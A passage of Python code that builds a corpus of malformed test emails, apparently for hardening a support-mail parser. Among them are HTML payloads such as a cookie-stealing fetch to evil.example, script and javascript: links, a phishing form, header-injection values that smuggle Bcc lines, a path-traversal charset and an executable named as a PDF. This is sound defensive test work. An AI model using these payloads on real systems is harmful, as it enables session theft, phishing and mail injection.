                (k, b"Anna\x00 <anna.lindqvist@customer-ab.se\x00>" if k == "From" else v)
                for k, v in _std(n, "NUL in From")
            ],
            _text(n),
        ),
    )
    n = f"{fam}/nul-in-header-name"
    c.add(n, _head(_std(n, "NUL in a header name")) + b"X-Nul\x00Name: v\r\n" + CRLF + _text(n))
    n = f"{fam}/nul-in-body"
    c.add(n, _msg(_std(n, "NUL in body"), _text(n).replace(b"LM-0042", b"LM-\x00\x00\x0042")))
    n = f"{fam}/nul-in-boundary"
    c.add(
        n,
        _msg(
            _std(n, "NUL in boundary", ctype=b'multipart/mixed; boundary="a\x00b"', cte=None),
            _multipart(b"a\x00b", [_text_part(_text(n))]),
        ),
    )


def _rfc2047(c: _Corpus) -> None:
    fam = "rfc2047"
    ok = base64.b64encode("årsrapport för licens".encode()).decode()
    subjects: dict[str, str | bytes] = {
        "bad-charset-name": f"=?x-bogus?B?{ok}?=",
        "charset-utf-9": f"=?utf-9?B?{ok}?=",
        "charset-empty": f"=??B?{ok}?=",
        "charset-with-language": "=?utf-8*sv?Q?=C3=A5rsrapport?=",
        "bad-base64-chars": "=?utf-8?B?!!!not*base64***?=",
        "bad-base64-padding": "=?utf-8?B?w6Vyc3JhcHBvcnQ?=",
        "bad-base64-length": "=?utf-8?B?w6Vyc3JhcHBvcn?=",
        "truncated-b": "=?utf-8?B?w6Vyc3JhcHBvcnQg",
        "truncated-q": "Re: =?utf-8?Q?=C3=A5rsrap",
        "truncated-after-charset": "=?utf-8?",
        "bad-q-hex": "=?utf-8?Q?=ZZ=C3_=G1test?=",
        "q-trailing-equals": "=?utf-8?Q?abc=?=",
        "bad-encoding-letter": f"=?utf-8?X?{ok}?=",
        "invalid-utf8": "=?utf-8?B?//79wyg=?=",
        "split-multibyte": "=?utf-8?B?w6Vy?= =?utf-8?B?w7Y=?= =?utf-8?Q?=C3?= =?utf-8?Q?=A4?=",
        "glued-to-text": "abc=?utf-8?Q?=C3=A5?=def=?utf-8?B?w7Y=?=ghi",
        "nested-encoded-word": "=?utf-8?B?" + base64.b64encode(b"=?utf-8?Q?=C3=A5?=").decode() + "?=",
        "overlong-word": _ew("ärende " * 80, "utf-8"),
        "mixed-charsets": " ".join(
            [
                _ew("Fråga", "iso-8859-1"),
                _ew("Проблема", "koi8-r"),
                _ew("問題", "shift_jis"),
                _ew("問題", "iso-2022-jp"),
                _ew("问题", "gb2312"),
            ]
        ),
        "lowercase-b-q": "=?UTF-8?b?w6Vy?= =?utf-8?q?=C3=B6?=",
        "question-marks-in-q": "=?utf-8?Q?what??=",
        "many-words-5000": " ".join(["=?utf-8?Q?=C3=A5?="] * 5000),
        "raw-8bit-inside-word": b"=?utf-8?Q?\xc3\xa5rsrapport?=",
        "utf-7": _ew("Licens åäö", "utf-7"),
        "encoded-whitespace-only": "=?utf-8?B?ICAg?= =?utf-8?Q?_?=",
        "encoded-crlf": "=?utf-8?B?" + base64.b64encode(b"line1\r\nBcc: victim@example.com").decode() + "?=",
    }
    for label, subject in subjects.items():
        n = f"{fam}/{label}"
        c.add(n, _msg(_std(n, subject), _text(n)))

    n = f"{fam}/in-quoted-display-name"
    c.add(
        n,
        _msg(
            [
                (k, '"=?utf-8?Q?=C3=85sa?=" <asa@customer-ab.se>' if k == "From" else v)
                for k, v in _std(n, "Encoded word inside quotes")
            ],
            _text(n),
        ),
    )
    n = f"{fam}/in-address-local-part"
    c.add(
        n,
        _msg(
            [
                (k, "=?utf-8?Q?=C3=A5sa?=@customer-ab.se" if k == "From" else v)
                for k, v in _std(n, "Encoded word as local part")
            ],
            _text(n),
        ),
    )
    n = f"{fam}/bad-charset-display-name"
    c.add(
        n,
        _msg(
            [
                (k, "=?x-unknown?Q?Anna?= <anna.lindqvist@customer-ab.se>" if k == "From" else v)
                for k, v in _std(n, "Unknown charset in From")
            ],
            _text(n),
        ),
    )


def _address(c: _Corpus) -> None:
    fam = "address"

    def with_header(name: str, header: str, value: str | bytes, subject: str = "Address oddity") -> None:
        hdrs = _std(name, subject)
        if any(k == header for k, _ in hdrs):
            hdrs = [(k, value if k == header else v) for k, v in hdrs]
        else:
            hdrs.append((header, value))
        c.add(name, _msg(hdrs, _text(name)))

    froms: dict[str, str | bytes] = {
        "double-angle": "Anna <<anna.lindqvist@customer-ab.se>>",
        "bare-double-angle": "<<anna.lindqvist@customer-ab.se>>",
        "trailing-at": "anna@",
        "leading-at": "@customer-ab.se",
        "only-at": "@",
        "group-empty": "undisclosed-recipients:;",
        "group-in-from": "Sales team: anna@customer-ab.se, jonas@customer-ab.se;",
        "unbalanced-quote": '"Anna Lindqvist <anna.lindqvist@customer-ab.se>',
        "unbalanced-angle": "Anna Lindqvist <anna.lindqvist@customer-ab.se",
        "unbalanced-paren": "anna.lindqvist@customer-ab.se (Anna",
        "nested-comments": "anna.lindqvist@customer-ab.se (Anna (sales (north)) Lindqvist)",
        "comma-in-unquoted-name": "Lindqvist, Anna <anna.lindqvist@customer-ab.se>",
        "multiple-from": "anna@customer-ab.se, jonas@customer-ab.se",
        "display-name-only": "Anna Lindqvist",
        "empty-angle": "<>",
        "ip-literal": "root@[192.0.2.1]",
        "ipv6-literal": "root@[IPv6:2001:db8::1]",
        "quoted-local-part": '"anna lindqvist"@customer-ab.se',
        "quoted-local-with-at": '"anna@evil"@customer-ab.se',
        "local-part-300": "a" * 300 + "@customer-ab.se",
        "domain-300": "anna@" + ".".join(["sub"] * 75) + ".se",
        "idn-utf8-raw": "Åsa <åsa@exämple.se>".encode(),
        "idn-punycode": "Asa <asa@xn--exmple-cua.se>",
        "no-tld": "anna@localhost",
        "whitespace-in-address": "anna . lindqvist @ customer-ab . se",
        "obsolete-route": "<@relay1.example,@relay2.example:anna@customer-ab.se>",
        "own-address": "PLM Support <support@plmgroup.se>",
        "spoofed-display": '"support@plmgroup.se" <evil@phish.example>',
        "semicolon-list": "anna@customer-ab.se; jonas@customer-ab.se",
        "trailing-dot-domain": "anna@customer-ab.se.",
        "double-dot-local": "anna..lindqvist@customer-ab.se",
        "crlf-encoded-in-name": "=?utf-8?B?" + base64.b64encode(b"Anna\r\nBcc: x@y").decode() + "?= <anna@x.example>",
    }
    for label, value in froms.items():
        with_header(f"{fam}/from-{label}", "From", value)
    tos: dict[str, str | bytes] = {
        "group-undisclosed": "undisclosed-recipients:;",
        "group-members": "Support team: support@plmgroup.se, ops@plmgroup.se;",
        "double-angle": "<<support@plmgroup.se>>",
        "trailing-at": "support@",
        "leading-at": "@plmgroup.se",
        "case-variant": "SUPPORT@PLMGROUP.SE",
        "plus-tag": "support+case-000123@plmgroup.se",
        "recipients-500": ", ".join(f"User {i} <user{i}@customer-ab.se>" for i in range(499)) + ", " + SUPPORT,
        "recipients-500-bare": ",".join([SUPPORT] + [f"u{i}@x{i % 7}.example" for i in range(499)]),
    }
    for label, value in tos.items():
        with_header(f"{fam}/to-{label}", "To", value)
    with_header(
        f"{fam}/cc-recipients-500", "Cc", ",\r\n ".join(f'"Doe, J{i}" <j{i}@customer-ab.se>' for i in range(500))
    )
    with_header(f"{fam}/reply-to-differs", "Reply-To", "Billing <billing@other.example>")
    with_header(f"{fam}/reply-to-multiple", "Reply-To", "a@x.example, b@y.example, <<c@z>>")
    with_header(f"{fam}/sender-differs", "Sender", "Mailer <bounces+123@esp.example>")


def _dates(c: _Corpus) -> None:
    values: dict[str, str | bytes] = {
        "iso8601-z": "2026-11-30T10:15:00Z",
        "iso8601-no-tz": "2026-11-30T10:15:00",
        "iso8601-space": "2026-11-30 10:15:00.123456+01:00",
        "us-slashes": "11/30/2026 10:15 AM",
        "eu-dots": "30.11.2026 10:15",
        "two-digit-year": "Mon, 30 Nov 26 10:15:00 +0100",
        "three-digit-year": "Mon, 30 Nov 126 10:15:00 +0100",
        "no-timezone": "Mon, 30 Nov 2026 10:15:00",
        "named-tz-cest": "Mon, 30 Nov 2026 10:15:00 CEST",
        "named-tz-unknown": "Mon, 30 Nov 2026 10:15:00 XYZ",
        "military-tz": "Mon, 30 Nov 2026 10:15:00 Z",
        "feb-31": "Tue, 31 Feb 2026 10:15:00 +0100",
        "hour-25": "Mon, 30 Nov 2026 25:61:61 +0100",
        "wrong-weekday": "Fri, 30 Nov 2026 10:15:00 +0100",
        "no-weekday": "30 Nov 2026 10:15:00 +0100",
        "no-seconds": "Mon, 30 Nov 2026 10:15 +0100",
        "swedish": "mån, 30 nov. 2026 10:15:00 +0100".encode(),
        "lowercase": "mon, 30 nov 2026 10:15:00 +0100",
        "tz-out-of-range": "Mon, 30 Nov 2026 10:15:00 +2500",
        "tz-huge": "Mon, 30 Nov 2026 10:15:00 -999999",
        "year-1900": "Mon, 01 Jan 1900 00:00:00 +0000",
        "year-0": "Sat, 01 Jan 0000 00:00:00 +0000",
        "year-9999": "Fri, 31 Dec 9999 23:59:59 +0000",
        "year-99999": "Fri, 31 Dec 99999 23:59:59 +0000",
        "epoch-seconds": "1764497700",
        "garbage": "yesterday, around lunch",
        "with-comment": "Mon, 30 Nov 2026 10:15:00 +0100 (CET)",
        "obsolete-spacing": "Mon , 30  Nov  2026  10 : 15 : 00  +0100",
        "far-future": "Wed, 30 Nov 2099 10:15:00 +0100",
        "day-0": "Mon, 00 Nov 2026 10:15:00 +0100",
        "negative-zero-tz": "Mon, 30 Nov 2026 10:15:00 -0000",
        "asctime": "Mon Nov 30 10:15:00 2026",
        "very-long": "Mon, 30 Nov 2026 10:15:00 +0100 " + "x" * 5000,
    }
    for label, value in values.items():
        n = f"date/{label}"
        c.add(n, _msg([(k, value if k == "Date" else v) for k, v in _std(n, "License question")], _text(n)))
    n = "date/two-dates"
    c.add(n, _msg(_std(n, "Two Date headers", extra=[("Date", "Thu, 01 Jan 1970 00:00:00 +0000")]), _text(n)))


def _line_endings(c: _Corpus) -> None:
    def mix(data: bytes) -> bytes:
        lines = data.split(CRLF)
        eols = (CRLF, b"\n", b"\r")
        return b"".join(line + eols[i % 3] for i, line in enumerate(lines[:-1])) + lines[-1]

    samples: dict[str, bytes] = {}
    n = "line-endings/text"
    samples["text"] = _msg(_std(n, "Line endings"), _text(n))
    n = "line-endings/multipart"
    samples["multipart"] = _with_attachment(
        n, "Line endings with attachment", _attachment('filename="log.bin"', _rand(7, 3000), "application/octet-stream")
    )
    for label, sample in samples.items():
        c.add(f"line-endings/cr-only-{label}", sample.replace(CRLF, b"\r"))
        c.add(f"line-endings/lf-only-{label}", sample.replace(CRLF, b"\n"))
        c.add(f"line-endings/mixed-{label}", mix(sample))
        c.add(f"line-endings/crcrlf-{label}", sample.replace(CRLF, b"\r\r\n"))
        c.add(f"line-endings/lfcr-{label}", sample.replace(CRLF, b"\n\r"))
    text = samples["text"]
    head, _, body = text.partition(CRLF + CRLF)
    c.add("line-endings/lf-headers-crlf-body", head.replace(CRLF, b"\n") + b"\n\n" + body)
    c.add("line-endings/crlf-headers-lf-body", head + CRLF + CRLF + body.replace(CRLF, b"\n"))
    n = "line-endings/bare-cr-in-subject"
    c.add(n, _msg(_std(n, b"First\rSecond\rBcc: victim@example.com"), _text(n)))
    n = "line-endings/bare-lf-in-subject"
    c.add(n, _msg(_std(n, b"First\nX-Injected: yes"), _text(n)))
    n = "line-endings/cr-separator-only"
    c.add(n, _head(_std(n, "CR CR between head and body")) + b"\r\r" + _text(n))


def _body_base64(c: _Corpus) -> None:
    fam = "body-base64"
    good = _b64(_text("body-base64").replace(b"Hi,", "Hej, åäö".encode()))
    flat = good.replace(CRLF, b"")
    bodies: dict[str, bytes] = {
        "missing-padding": flat.rstrip(b"=")[:-1] + CRLF,
        "extra-padding": flat + b"====" + CRLF,
        "padding-in-middle": flat[:40] + b"==" + flat[40:] + CRLF,
        "non-alphabet": good[:30] + b"!@#$%^&*" + good[30:],
        "8bit-inside": good[:30] + "åäö€".encode() + good[30:],
        "urlsafe-alphabet": base64.urlsafe_b64encode(_rand(11, 600)) + CRLF,
        "truncated-quantum": flat[: (len(flat) // 4) * 4 - 3] + CRLF,
        "whitespace-inside": b" \t".join(flat[i : i + 10] for i in range(0, len(flat), 10)) + CRLF,
        "lines-1000": b"".join(base64.b64encode(_rand(12, 30000))[i : i + 1000] + CRLF for i in range(0, 40000, 1000)),
        "one-line-1m": base64.b64encode(_rand(13, 786432)) + CRLF,
        "empty": b"",
        "only-padding": b"====\r\n",
        "plain-text-not-base64": _text("body-base64/plain"),
        "data-after-padding": flat + CRLF + b"Sent from my phone\r\n",
        "nul-bytes-inside": good[:20] + b"\x00\x00" + good[20:],
    }
    for label, body in bodies.items():
        n = f"{fam}/{label}"
        c.add(n, _msg(_std(n, "Base64 body", ctype="text/plain; charset=utf-8", cte="base64"), body))
    n = f"{fam}/bad-in-attachment"
    c.add(
        n,
        _with_attachment(
            n,
            "Attachment with broken base64",
            _attachment('filename="scan.pdf"', b"", encoded=_b64(_PDF)[:-6] + b"*&^%\r\n"),
        ),
    )


def _body_qp(c: _Corpus) -> None:
    fam = "body-qp"
    bodies: dict[str, bytes] = {
        "invalid-escape": b"Pris =ZZ 100 kr, =G1 och =\xc3 slut\r\n",
        "truncated-escape-eof": b"Hej, det kostar 100 =4",
        "soft-break-eof": b"Hej, texten slutar mitt i=",
        "lowercase-hex": b"=c3=a5=c3=a4=c3=b6 lowercase hex\r\n",
        "long-lines": (b"x" * 5000 + CRLF) * 3,
        "raw-8bit": "Rå 8-bit åäö i en quoted-printable-text\r\n".encode(),
        "soft-break-trailing-space": b"soft break with trailing space= \t\r\nnext line\r\n",
        "unescaped-equals": b"1+1=2 and a=b, x==y\r\n",
        "nul-escape": b"nul here =00 and =00=00\r\n",
        "escaped-crlf": b"line one=0D=0Aline two=0D=0ABcc: x@y\r\n",
        "many-soft-breaks": b"=\r\n" * 20000 + b"end\r\n",
        "utf8-split-by-soft-break": b"=C3=\r\n=A5r=C3=\r\n=A4\r\n",
    }
    for label, body in bodies.items():
        n = f"{fam}/{label}"
        c.add(
            n, _msg(_std(n, "Quoted-printable body", ctype="text/plain; charset=utf-8", cte="quoted-printable"), body)
        )


_CHARSETS: tuple[tuple[str, str, str], ...] = (
    ("utf-8", "utf-8", SV_EURO + " " + RU + " " + JA + " 🙂"),
    ("iso-8859-1", "iso-8859-1", SV),
    ("iso-8859-15", "iso-8859-15", SV_EURO),
    ("windows-1252", "cp1252", CP1252),
    ("koi8-r", "koi8-r", RU),
    ("iso-2022-jp", "iso-2022-jp", JA),
    ("gb18030", "gb18030", ZH + " 🙂"),
    ("shift_jis", "shift_jis", JA),
    ("big5", "big5", "您好，授權伺服器無法啟動。"),
    ("euc-kr", "euc-kr", "안녕하세요. 라이선스 서버가 시작되지 않습니다."),
    ("windows-1251", "cp1251", RU),
    ("iso-8859-2", "iso-8859-2", "Dzień dobry, serwer licencji nie działa. Příliš žluťoučký kůň."),
)


def _charsets(c: _Corpus) -> None:
    for label, codec, text in _CHARSETS:
        data = (text + "\n\n" + text + "\n").encode(codec)
        subject = _ew(text[:30], label, codec)
        for cte in ("8bit", "base64", "quoted-printable"):
            n = f"charset/{label}-{cte}"
            body = data.replace(b"\n", CRLF) if cte == "8bit" else _b64(data) if cte == "base64" else _qp(data)
            c.add(n, _msg(_std(n, subject, ctype=f"text/plain; charset={label}", cte=cte), body))
        n = f"charset/{label}-html"
        html = f'<html><head><meta charset="{label}"></head><body><p>{text}</p></body></html>\n'.encode(codec)
        c.add(n, _msg(_std(n, subject, ctype=f'text/html; charset="{label}"', cte="base64"), _b64(html)))

    text = SV_EURO + " " + RU + " " + JA + " 🙂\r\n"
    utf16: dict[str, tuple[str, bytes]] = {
        "utf-16-bom-le-base64": ("utf-16", b"\xff\xfe" + text.encode("utf-16-le")),
        "utf-16-bom-be-base64": ("utf-16", b"\xfe\xff" + text.encode("utf-16-be")),
        "utf-16-no-bom-le-base64": ("utf-16", text.encode("utf-16-le")),
        "utf-16-no-bom-be-base64": ("utf-16", text.encode("utf-16-be")),
        "utf-16le-label-base64": ("utf-16le", text.encode("utf-16-le")),
        "utf-16be-label-base64": ("utf-16be", text.encode("utf-16-be")),
        "utf-16le-label-with-bom": ("utf-16le", b"\xff\xfe" + text.encode("utf-16-le")),
        "utf-32-base64": ("utf-32", text.encode("utf-32")),
    }
    for label, (charset, data) in utf16.items():
        n = f"charset/{label}"
        c.add(n, _msg(_std(n, "UTF-16 body", ctype=f"text/plain; charset={charset}", cte="base64"), _b64(data)))
    n = "charset/utf-16-8bit-raw"
    c.add(
        n, _msg(_std(n, "UTF-16 body sent raw", ctype="text/plain; charset=utf-16", cte="8bit"), text.encode("utf-16"))
    )
    n = "charset/utf-16-attachment-txt"
    c.add(
        n,
        _with_attachment(
            n,
            "UTF-16 text file",
            _attachment(
                'filename="export.csv"', "Namn;Belopp\r\nÅsa;100\r\n".encode("utf-16"), "text/csv; charset=utf-16"
            ),
        ),
    )


def _charset_wrong(c: _Corpus) -> None:
    fam = "charset-wrong"
    cases: dict[str, tuple[str, str, bytes]] = {
        "utf8-declared-latin1-body": ("utf-8", "8bit", SV.encode("latin-1") + CRLF),
        "utf8-declared-latin1-base64": ("utf-8", "base64", _b64(SV.encode("latin-1"))),
        "utf8-declared-cp1252-quotes": ("utf-8", "quoted-printable", _qp(CP1252.encode("cp1252"))),
        "ascii-declared-utf8": ("us-ascii", "8bit", SV.encode() + CRLF),
        "ascii-declared-latin1": ("us-ascii", "7bit", SV.encode("latin-1") + CRLF),
        "latin1-declared-utf8": ("iso-8859-1", "8bit", SV_EURO.encode() + CRLF),
        "shiftjis-declared-utf8": ("shift_jis", "8bit", JA.encode() + CRLF),
        "koi8r-declared-cp1251": ("koi8-r", "8bit", RU.encode("cp1251") + CRLF),
        "utf16-declared-ascii-odd-length": ("utf-16", "7bit", b"plain ascii text, odd length\r\n!"),
        "iso2022jp-broken-escape": ("iso-2022-jp", "7bit", JA.encode("iso-2022-jp")[:-5] + b"\x1b$Z\x1b(" + CRLF),
        "utf8-truncated-multibyte": ("utf-8", "8bit", SV.encode()[:-1] + "å".encode()[:1] + CRLF),
        "gb2312-declared-gb18030-emoji": ("gb2312", "base64", _b64((ZH + "🙂").encode("gb18030"))),
        "no-charset-utf8": ("", "8bit", SV.encode() + CRLF),
    }
    for label, (charset, cte, body) in cases.items():
        n = f"{fam}/{label}"
        ctype = f"text/plain; charset={charset}" if charset else "text/plain"
        c.add(n, _msg(_std(n, "Charset mismatch", ctype=ctype, cte=cte), body))
    n = f"{fam}/html-meta-disagrees"
    html = f'<html><head><meta charset="windows-1252"></head><body>{CP1252}</body></html>\r\n'.encode("cp1252")
    c.add(n, _msg(_std(n, "Meta charset disagrees", ctype="text/html; charset=utf-8", cte="8bit"), html))
    n = f"{fam}/subject-ew-wrong-charset"
    c.add(n, _msg(_std(n, "=?utf-8?B?" + base64.b64encode(SV.encode("latin-1")).decode() + "?="), _text(n)))


def _charset_unknown(c: _Corpus) -> None:
    names: dict[str, str] = {
        "x-unknown": "x-unknown",
        "utf-9": "utf-9",
        "empty": '""',
        "empty-unquoted": "",
        "quoted-with-spaces": '" utf-8 "',
        "utf8-no-dash": "utf8",
        "utf-7": "utf-7",
        "unicode-1-1-utf-7": "unicode-1-1-utf-7",
        "x-user-defined": "x-user-defined",
        "ks_c_5601-1987": "ks_c_5601-1987",
        "iso-8859-99": "iso-8859-99",
        "cp65001": "cp65001",
        "default": "default",
        "charset-with-semicolon": '"utf-8;format=flowed"',
        "very-long": "x-" + "a" * 500,
        "path-like": "../../etc/passwd",
        "python-only-codec": "rot13",
        "python-bytes-codec": "zlib_codec",
        "python-hex-codec": "hex",
    }
    body = (SV_EURO + "\r\n").encode()
    for label, charset in names.items():
        n = f"charset-unknown/{label}"
        c.add(
            n,
            _msg(
                _std(n, _ew("Okänd teckenkodning", "utf-8"), ctype=f"text/plain; charset={charset}", cte="8bit"), body
            ),
        )
    n = "charset-unknown/subject-and-filename"
    c.add(
        n,
        _with_attachment(
            n,
            f"=?x-unknown?B?{base64.b64encode(b'abc').decode()}?=",
            _attachment("filename*=x-unknown''r%E4pport.pdf", _PDF),
        ),
    )


def _cte(c: _Corpus) -> None:
    fam = "cte"
    payload = _text("cte")
    uu = (
        b"begin 644 note.txt\r\n"
        + b"".join(binascii.b2a_uu(payload[i : i + 45]).replace(b"\n", CRLF) for i in range(0, len(payload), 45))
        + b"`\r\nend\r\n"
    )
    binary = _rand(21, 2000) + b"\x00" * 50 + b"\rbare CR\n bare LF " + b"z" * 3000 + CRLF
    cases: dict[str, tuple[str, str, bytes]] = {
        "x-uuencode": ("text/plain; charset=us-ascii", "x-uuencode", uu),
        "uuencode": ("text/plain; charset=us-ascii", "uuencode", uu),
        "x-uue": ("application/octet-stream; name=note.txt", "x-uue", uu),
        "uuencode-in-plain-body": ("text/plain; charset=us-ascii", "7bit", b"See file below.\r\n\r\n" + uu),
        "8bit-binary": ("text/plain; charset=utf-8", "8bit", binary),
        "binary": ("application/octet-stream", "binary", binary),
        "7bit-with-8bit": ("text/plain; charset=utf-8", "7bit", SV.encode() + CRLF),
        "base-64-typo": ("text/plain; charset=utf-8", "base-64", _b64(SV.encode())),
        "quoted_printable-typo": ("text/plain; charset=utf-8", "quoted_printable", _qp(SV.encode())),
        "x-gzip64": ("application/octet-stream", "x-gzip64", _b64(zlib.compress(payload))),
        "empty-value": ("text/plain; charset=us-ascii", "", payload),
        "uppercase-base64": ("text/plain; charset=utf-8", "BASE64", _b64(SV.encode())),
        "with-params": ("text/plain; charset=utf-8", "base64; foo=bar", _b64(SV.encode())),
        "quoted-value": ("text/plain; charset=utf-8", '"base64"', _b64(SV.encode())),
        "two-values": ("text/plain; charset=utf-8", "base64, quoted-printable", _b64(SV.encode())),
        "base64-on-multipart": (
            'multipart/mixed; boundary="=_b"',
            "base64",
            _b64(_multipart("=_b", [_text_part(payload)])),
        ),
        "qp-on-multipart": (
            'multipart/mixed; boundary="=_b"',
            "quoted-printable",
            _multipart("=_b", [_text_part(b"=3D=3D soft=\r\nbreak\r\n")]),
        ),
        "base64-on-message-rfc822": ("message/rfc822", "base64", _b64(_msg(_std("cte/inner", "Inner"), payload))),
    }
    for label, (ctype, cte, body) in cases.items():
        n = f"{fam}/{label}"
        c.add(n, _msg(_std(n, "Transfer encoding", ctype=ctype, cte=cte), body))


_HTML: dict[str, str] = {
    "script": "<html><body><p>Hi</p><script>alert(document.cookie)</script></body></html>",
    "script-src": '<html><body><script src="https://evil.example/x.js"></script>Hello</body></html>',
    "script-obfuscated": "<SCRIPT>alert(1)</SCRIPT><scr<script>ipt>alert(2)</script><script/x>alert(3)</script>",
    "onerror": '<p>See image</p><img src="x" onerror="fetch(\'https://evil.example/?\'+document.cookie)">',
    "onload-body": '<html><body onload="steal()"><p>Hello</p></body></html>',
    "onmouseover-unquoted": '<a href="#" onmouseover=alert(1)>hover me</a>',
    "on-handlers-many": "".join(
        f'<div on{ev}="x()">{ev}</div>' for ev in ("click", "focus", "blur", "animationstart", "pointerenter", "wheel")
    ),
    "javascript-link": '<p>Please <a href="javascript:alert(1)">confirm your account</a>.</p>',
    "javascript-link-obfuscated": (
        '<a href="jav&#x09;ascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a>'
        '<a href="&#106;&#97;&#118;&#97;script:alert(3)">c</a>'
    ),
    "vbscript-link": '<a href="vbscript:msgbox(1)">x</a>',
    "data-uri-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
    "style-block": (
        "<html><head><style>body{background:url(https://track.example/bg.gif)}"
        " .hidden{display:none} @import url(https://evil.example/x.css);</style></head>"
        "<body><p class=hidden>secret</p><p>Visible</p></body></html>"
    ),
    "style-attr-expression": '<div style="width: expression(alert(1)); background:url(javascript:alert(2))">x</div>',
    "tracking-pixel": (
        '<p>Hello</p><img src="https://t.example/open?id=8c1f&u=anna" width="1" height="1" style="display:none" alt="">'
    ),
    "tracking-many": "".join(f'<img src="https://t{i}.example/p.gif?id={i}" width=1 height=1>' for i in range(50)),
    "remote-css-and-fonts": '<link rel="stylesheet" href="https://evil.example/a.css"><p style="font-family:x">t</p>',
    "iframe": '<p>Invoice</p><iframe src="https://evil.example/" width="0" height="0"></iframe>',
    "form-phishing": (
        '<form action="https://phish.example/login" method="post"><input name="user">'
        '<input name="password" type="password"><button>Log in</button></form>'
    ),
    "meta-refresh": '<html><head><meta http-equiv="refresh" content="0;url=https://phish.example/"></head></html>',
    "base-href": '<html><head><base href="https://evil.example/"></head><body><a href="case/1">case</a></body></html>',
    "svg-onload": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="10"/></svg>',
    "object-embed": '<object data="x.swf" type="application/x-shockwave-flash"></object><embed src="x.swf">',
    "conditional-comments": (
        '<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src='
        '"https://t.example/o.gif"/></v:rect><![endif]--><!--[if !mso]><!-->Hi<!--<![endif]-->'
    ),
    "broken-unclosed": "<html><body><div><p>Unclosed <b>bold <i>italic <table><tr><td>cell <a href='x",
    "broken-attributes": '<p class="a" class=b id=>x</p><a href="unterminated>link</a><img src=\'x\'"/>',
    "broken-nesting": "</div></div><p><div></p></div><<<>>><b><i></b></i><!-- unterminated comment",
    "broken-cdata-doctype": '<![CDATA[ <script>alert(1)</script> ]]><!DOCTYPE x [ <!ENTITY a "b"> ]>&a;',
    "not-html-at-all": "just text labelled as html with < and > and & unescaped",
    "deep-div-nesting": "<div>" * 20000 + "deep" + "</div>" * 10,
    "entities": "&lt;script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &bogus; &#99999999; &#0; &amp",
    "outlook-style": (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>'
        "p.MsoNormal{margin:0cm;font-size:11.0pt}</style></head><body lang=SV><div class=WordSection1>"
        "<p class=MsoNormal>Hej,<o:p></o:p></p><p class=MsoNormal>Licensen har g&aring;tt ut."
        "<o:p></o:p></p></div></body></html>"
    ),
    "noscript-template": (
        "<noscript><img src=x onerror=alert(1)></noscript><template><script>alert(1)</script></template>"
    ),
    "math-mxss": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
    ),
}


def _html(c: _Corpus) -> None:
    for label, html in _HTML.items():
        n = f"html/{label}"
        c.add(n, _msg(_std(n, "Your license", ctype="text/html; charset=utf-8", cte="8bit"), html.encode() + CRLF))
    n = "html/script-qp"
    body = _qp(("<html><body><p>Hej åäö</p>" + _HTML["script"] + "</body></html>").encode())
    c.add(n, _msg(_std(n, "QP html", ctype="text/html; charset=utf-8", cte="quoted-printable"), body))
    n = "html/alternative-text-empty"
    alt = _multipart(
        "=_alt",
        [_text_part(b""), _msg([("Content-Type", "text/html; charset=utf-8")], _HTML["onerror"].encode() + CRLF)],
    )
    c.add(n, _msg(_std(n, "Empty text, hostile html", ctype='multipart/alternative; boundary="=_alt"', cte=None), alt))
    n = "html/big-5mb"
    big = (
        "<html><body>" + "<p>row <b>bold</b> <a href='https://x.example/'>link</a></p>\n" * 90000 + "</body></html>"
    ).encode()
    c.add(n, _msg(_std(n, "5 MB of HTML", ctype="text/html; charset=utf-8", cte="base64"), _b64(big)))


def _attachments(c: _Corpus) -> None:
    fam = "attachment"
    zero: dict[str, bytes] = {
        "zero-byte-pdf": _attachment('filename="empty.pdf"', b""),
        "zero-byte-txt-7bit": _msg(
            [("Content-Type", "text/plain"), ("Content-Disposition", 'attachment; filename="e.txt"')], b""
        ),
        "zero-byte-octet": _attachment('filename="empty.bin"', b"", "application/octet-stream"),
        "zero-byte-no-blank-line": b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=x.pdf",
        "zero-byte-size-param-lies": _attachment('filename="x.pdf"; size=1048576', b""),
    }
    for label, att in zero.items():
        n = f"{fam}/{label}"
        c.add(n, _with_attachment(n, "Empty attachment", att))

    for size in (256 * 1024, 2 * 1024 * 1024, 10 * 1024 * 1024):
        n = f"{fam}/large-{size // 1024}k"
        c.add(
            n,
            _with_attachment(
                n,
                f"Log archive ({size // 1024} KiB)",
                _attachment(f'filename="logs-{size}.zip"', b"", "application/zip", encoded=_b64_big(size, size)),
            ),
        )
    n = f"{fam}/large-over-25mib"
    size = LIMIT + 1024 * 1024
    c.add(
        n,
        _with_attachment(
            n,
            "Full database dump (26 MiB)",
            _attachment('filename="dump.bak"', b"", "application/octet-stream", encoded=_b64_big(size, 25)),
        ),
    )
    n = f"{fam}/size-param-claims-huge"
    c.add(n, _with_attachment(n, "Size parameter says 30 MB", _attachment('filename="small.pdf"; size=31457280', _PDF)))

    octet: dict[str, bytes] = {
        "octet-stream-no-name": _msg(
            [("Content-Type", "application/octet-stream"), ("Content-Transfer-Encoding", "base64")],
            _b64(_rand(31, 500)),
        ),
        "octet-stream-disposition-no-name": _msg(
            [
                ("Content-Type", "application/octet-stream"),
                ("Content-Disposition", "attachment"),
                ("Content-Transfer-Encoding", "base64"),
            ],
            _b64(_rand(32, 500)),
        ),
        "octet-stream-inline-no-name": _msg(
            [("Content-Type", "application/octet-stream"), ("Content-Disposition", "inline")], _rand(33, 200)
        ),
        "no-content-type": _msg(
            [("Content-Disposition", 'attachment; filename="x.bin"'), ("Content-Transfer-Encoding", "base64")],
            _b64(_rand(34, 300)),
        ),
        "content-type-garbage": _attachment('filename="a.pdf"', _PDF, "this is not/a type; ;; ="),
        "content-type-no-subtype": _attachment('filename="a.pdf"', _PDF, "application"),
        "disposition-garbage": _msg(
            [
                ("Content-Type", "application/pdf"),
                ("Content-Disposition", ';;;=""x'),
                ("Content-Transfer-Encoding", "base64"),
            ],
            _b64(_PDF),
        ),
        "exe-as-pdf": _attachment('filename="invoice.pdf"', b"MZ\x90\x00" + _rand(35, 400)),
